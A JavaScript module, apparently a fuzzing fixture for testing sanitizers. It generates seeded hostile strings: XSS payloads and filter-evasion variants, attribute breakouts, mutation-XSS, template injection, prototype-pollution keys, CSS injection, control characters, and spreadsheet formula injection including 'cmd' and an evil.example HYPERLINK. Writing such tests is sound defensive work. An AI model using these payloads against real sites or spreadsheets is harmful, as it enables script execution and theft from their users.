// Hostile strings, the same in every run; in Node and, served as it is, in the page.

/** Numbers from 0 to 1 that depend on the seed alone (mulberry32). */
export function random(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** By kind; CALL stands for what would be run. */
export const KINDS = {
  script: [
    '<script>CALL</script>',
    '<script src="data:text/javascript,CALL"></script>',
    '<svg><script>CALL</script></svg>',
    '<svg><script href="data:text/javascript,CALL"/></svg>',
    '<script type=module>CALL</script>',
    '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
    '<iframe src="javascript:parent.CALL"></iframe>',
    '<object data="javascript:CALL"></object>',
    '<embed src="javascript:CALL">',
    '<base href="javascript:/a/"><a href="CALL">a</a>',
    '<meta http-equiv=refresh content="0;url=javascript:CALL">',
    '<link rel=stylesheet href=/sent onerror=CALL>',
  ],
  handler: [
    '<img src=x: onerror=CALL>',
    '<img src=x: onerror="CALL">',
    "<img/src='x:'/onerror='CALL'>",
    '<image src=x: onerror=CALL>',
    '<svg onload=CALL>',
    '<svg><animate onbegin=CALL attributeName=x dur=1s>',
    '<details open ontoggle=CALL>',
    '<input autofocus onfocus=CALL>',
    '<video><source onerror=CALL src=x:></video>',
    '<audio src=x: onerror=CALL>',
    '<style onload=CALL></style>',
    '<body onload=CALL>',
    '<marquee onstart=CALL>',
    '<p style="animation:x 1s" onanimationstart=CALL>',
    '<a onmouseover=CALL tabindex=1 onfocus=CALL autofocus>x</a>',
  ],
  address: [
    'javascript:CALL',
    'JaVaScRiPt:CALL',
    ' javascript:CALL',
    '\u0001javascript:CALL',
    'java\tscript:CALL',
    'java\nscript:CALL',
    'javascript\r:CALL',
    '\u00a0javascript:CALL',
    '\ufeffjavascript:CALL',
    'java\u0000script:CALL',
    'javascript://%0aCALL',
    'javascript://https://example.org/%0aCALL',
    '&#106;avascript:CALL',
    'javascript&colon;CALL',
    '%6aavascript:CALL',
    'ｊavascript:CALL',
    'data:text/html,<script>CALL</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'vbscript:CALL',
    'livescript:CALL',
    'blob:https://example.org/CALL',
    'filesystem:https://example.org/CALL',
    'file:///etc/passwd#CALL',
    'view-source:javascript:CALL',
    '//evil.example/CALL',
    '\\\\evil.example\\CALL',
    'https:javascript:CALL',
    'https://example.org@javascript:CALL',
    'https://example.org/"onclick="CALL',
    'http://evil.example/CALL',
    'intent://evil.example/#Intent;scheme=javascript;CALL;end',
    'about:blank#CALL',
  ],
  breakout: [
    '" onmouseover="CALL" x="',
    "' autofocus onfocus='CALL' x='",
    '"><img src=x: onerror=CALL>',
    "'><svg onload=CALL>",
    '`><img src=x: onerror=CALL>',
    '--><img src=x: onerror=CALL><!--',
    '--!><img src=x: onerror=CALL>',
    ']]><img src=x: onerror=CALL>',
    '</textarea><img src=x: onerror=CALL>',
    '</title><img src=x: onerror=CALL>',
    '</style><img src=x: onerror=CALL>',
    '</script><script>CALL</script>',
    '</template></span></p></div><img src=x: onerror=CALL>',
    '</slot></article></section><svg onload=CALL>',
    '/onload=CALL//',
  ],
  mutation: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=CALL&gt;">',
    '<svg></p><style><a id="</style><img src=x: onerror=CALL>">',
    '<noscript><p title="</noscript><img src=x: onerror=CALL>">',
    '<template><img src=x: onerror=CALL></template>',
    '<math><annotation-xml encoding="text/html"><img src=x: onerror=CALL>',
    '<svg><foreignObject><img src=x: onerror=CALL></foreignObject>',
    '<svg><style><img src=x: onerror=CALL>',
    '<svg><a xlink:href="javascript:CALL"><text y=9>x</text></a>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=CALL>#x">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=CALL>',
    '<xmp><p title="</xmp><img src=x: onerror=CALL>">',
    '<select><template shadowrootmode=open><img src=x: onerror=CALL></template></select>',
  ],
  template: [
    'lit$CALL$',
    '<!--?lit$123456789$-->',
    '<!--?lit$CALL$--><img src=x: onerror=CALL>',
    '<?lit$123456789$>',
    '?lit$1$',
    '$lit$',
    '@click=${CALL}',
    '.innerHTML=${CALL}',
    '${CALL}',
    '#{CALL}',
    '{{CALL}}',
    "{{constructor.constructor('CALL')()}}",
    '<%= CALL %>',
    '{{{<img src=x: onerror=CALL>}}}',
    '{"_$litType$":1,"strings":["<img src=x: onerror=CALL>"],"values":[]}',
    '{n} {other} {name} CALL',
    '{__proto__} {constructor} {toString} CALL',
    '$& $1 $` $<name> CALL',
  ],
  pollution: [
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    '__defineGetter__',
    '__proto__.polluted',
    'constructor.prototype.polluted',
    '__proto__[polluted]=CALL',
    '{"__proto__":{"polluted":"CALL"}}',
    '{"constructor":{"prototype":{"polluted":"CALL"}}}',
    '[object Object]',
    'undefined',
    'null',
    'NaN',
  ],
  style: [
    ';background:url(javascript:CALL)',
    '}*{background:url("/sent?CALL")}',
    'expression(CALL)',
    '</style><script>CALL</script>',
    '@import "/sent?CALL";',
    'red;-moz-binding:url(/sent?CALL)',
    '\\22 onload=CALL',
    '--x:url(/sent?CALL)',
  ],
  characters: [
    '\u202eCALL\u202c',
    '\u2066\u2067\u2068CALL',
    '\ud800',
    '\udc00CALL',
    'CALL\ud83d',
    '\u0000CALL\u0000',
    '\u0000',
    '\ufffe\uffffCALL',
    'Z\u0351\u036b\u0343\u036a\u0302\u036bCALL'.repeat(9),
    '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}CALL',
    '\u2028CALL\u2029',
    '\r\n\r\nSet-Cookie: CALL',
    '\u001b[31mCALL',
    '\u200b\u200c\u200d\u2060CALL',
    'ﷺCALL',
    ' ',
    '',
  ],
  formula: [
    "=cmd|' /C CALL'!A0",
    '=HYPERLINK("http://evil.example/CALL")',
    '@SUM(1+1)*cmd|CALL',
    '+CALL',
    '-CALL',
    '\t=CALL',
    '\r=CALL',
    '";=CALL',
    'a\n=CALL',
  ],
};

const kinds = Object.values(KINDS);

/** Hostile string number `index`. What it would run says which one it was. */
export function hostile(index, seed = 1) {
  const next = random(seed * 1_000_003 + index);
  const pick = (list) => list[Math.floor(next() * list.length)];
  const one = () => pick(kinds[index % kinds.length]);
  const chance = (share) => next() < share;
  let text = one();
  if (chance(0.2)) text = pick(['Tea ', 'متاهة ', 'é', '\n', '  ', '<b>', '&lt;', '\u202e']) + text;
  if (chance(0.2))
    text += pick([one(), pick(pick(kinds)), ' and a walk', '\u0000', '<!--', '"', "'", '`', '{']);
  // What filters stumble over: case, blanks, slashes, entities.
  if (chance(0.15)) text = text.replace(/<(\w+)/g, (tag) => tag.toUpperCase());
  if (chance(0.15))
    text = text.replace(/ (on\w+|src|href)=/g, (name) => `${pick(['/', '\t', '\n', '\f'])}${name.slice(1)}`);
  if (chance(0.05)) text = text.replace(/:/g, '&#58;');
  if (chance(0.05)) text = encodeURIComponent(text.toWellFormed?.() ?? text.replace(/\p{Cs}/gu, ''));
  if (chance(0.01)) text += 'A'.repeat(pick([200, 2000, 20_000, 100_000]));
  return text.replaceAll('CALL', `__pwned(${index})`);
}
